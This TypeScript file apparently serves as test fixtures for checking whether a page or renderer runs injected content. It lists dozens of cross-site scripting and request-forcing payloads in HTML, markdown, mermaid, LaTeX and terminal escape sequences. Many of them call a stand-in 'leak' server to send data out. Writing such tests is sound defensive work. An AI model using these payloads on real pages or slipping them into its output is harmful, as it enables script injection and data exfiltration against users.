/**
 * Texts with which a model, a file or a server may try to make a page run a script, ask a question or send a request.
 * `mark` identifies the payload that succeeded; `leak` is the address of a server that nothing else contacts.
 */
export type Payload = (mark: string, leak: string) => string

const RUNS = (mark: string): string => `window.ran=(window.ran||'')+'${mark} ';alert('${mark}')`

export const PAYLOADS: readonly Payload[] = [
  // HTML that runs by itself.
  (mark) => `<script>${RUNS(mark)}</script>`,
  (mark) => `</p></div></article><script>${RUNS(mark)}</script>`,
  (mark, leak) => `<script src="${leak}/script-${mark}"></script>`,
  (mark) => `<img src=x onerror="${RUNS(mark)}">`,
  (mark) => `<IMG """><SCRIPT>${RUNS(mark)}</SCRIPT>">`,
  (mark) => `<svg onload="${RUNS(mark)}">`,
  (mark) => `<svg><script>${RUNS(mark)}</script></svg>`,
  (mark) => `<svg><animate onbegin="${RUNS(mark)}" attributeName=x dur=1s>`,
  (mark) => `<math><mtext></mtext><mglyph><style></math><img src=x onerror="${RUNS(mark)}">`,
  (mark) => `<noscript><p title="</noscript><img src=x onerror=${RUNS(mark)}>">`,
  (mark) => `<details open ontoggle="${RUNS(mark)}">x</details>`,
  (mark) => `<input autofocus onfocus="${RUNS(mark)}">`,
  (mark) => `<video><source onerror="${RUNS(mark)}"></video>`,
  (mark) => `<body onload="${RUNS(mark)}">`,
  (mark) => `<marquee onstart="${RUNS(mark)}">x</marquee>`,
  (mark) => `<iframe srcdoc="<script>parent.${RUNS(mark)}</script>"></iframe>`,
  (mark) => `<iframe src="javascript:parent.${RUNS(mark)}"></iframe>`,
  (mark) => `<object data="data:text/html,<script>${RUNS(mark)}</script>"></object>`,
  (mark) => `<template><script>${RUNS(mark)}</script></template>`,
  (mark) => `<!--><img src=x onerror="${RUNS(mark)}">-->`,
  (mark) => `<a href="javascript:${RUNS(mark)}" autofocus>x</a>`,
  // HTML that sends requests.
  (mark, leak) => `<img src="${leak}/image-${mark}">`,
  (mark, leak) => `<link rel=stylesheet href="${leak}/style-${mark}">`,
  (mark, leak) => `<link rel=prefetch href="${leak}/prefetch-${mark}">`,
  (mark, leak) =>
    `<style>@import "${leak}/import-${mark}"; * { background: url(${leak}/url-${mark}) }</style>`,
  (mark, leak) => `<div style="background-image: url('${leak}/background-${mark}')">x</div>`,
  (mark, leak) => `<meta http-equiv="refresh" content="0; url=${leak}/refresh-${mark}">`,
  (mark, leak) => `<base href="${leak}/base-${mark}/"><img src=x>`,
  (mark, leak) => `<iframe src="${leak}/frame-${mark}"></iframe>`,
  (mark, leak) => `<embed src="${leak}/embed-${mark}"><audio src="${leak}/audio-${mark}" autoplay>`,
  (mark, leak) => `<form action="${leak}/form-${mark}"><input name=q value=x></form>`,
  // Markdown.
  (mark, leak) => `![an image](${leak}/markdown-${mark}?secret=1)`,
  (mark, leak) => `![ref][r${mark}]\n\n[r${mark}]: ${leak}/reference-${mark} "title"`,
  (mark, leak) => `[![x](${leak}/linked-image-${mark})](${leak}/link-${mark})`,
  (mark) => `[x](javascript:${RUNS(mark)}) [y](JaVaScRiPt&colon;${RUNS(mark)})`,
  (mark) => `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "${mark}")`,
  (mark) => `[x](<javascript:${RUNS(mark)}> "a\\" onmouseover=\\"${RUNS(mark)}") <vbscript:x>`,
  (mark) => `\`\`\`"><img src=x onerror="${RUNS(mark)}">\ncode\n\`\`\``,
  (mark) => `| a |\n| - |\n| <img src=x onerror="${RUNS(mark)}"> |`,
  (mark, leak) => `# <img src="${leak}/heading-${mark}">\n\n> <script>${RUNS(mark)}</script>`,
  // Formats that other programs render.
  (mark, leak) => `\`\`\`mermaid\ngraph LR; A-->B; click A "${leak}/mermaid-${mark}"\n\`\`\``,
  (mark) => `$$\\href{javascript:${RUNS(mark)}}{x}$$ \\includegraphics{x}`,
  // Terminal escape sequences.
  (mark, leak) =>
    `\u001B]8;;${leak}/osc-${mark}\u0007link\u001B]8;;\u0007 \u001B]0;<script>${RUNS(mark)}</script>\u0007`,
]
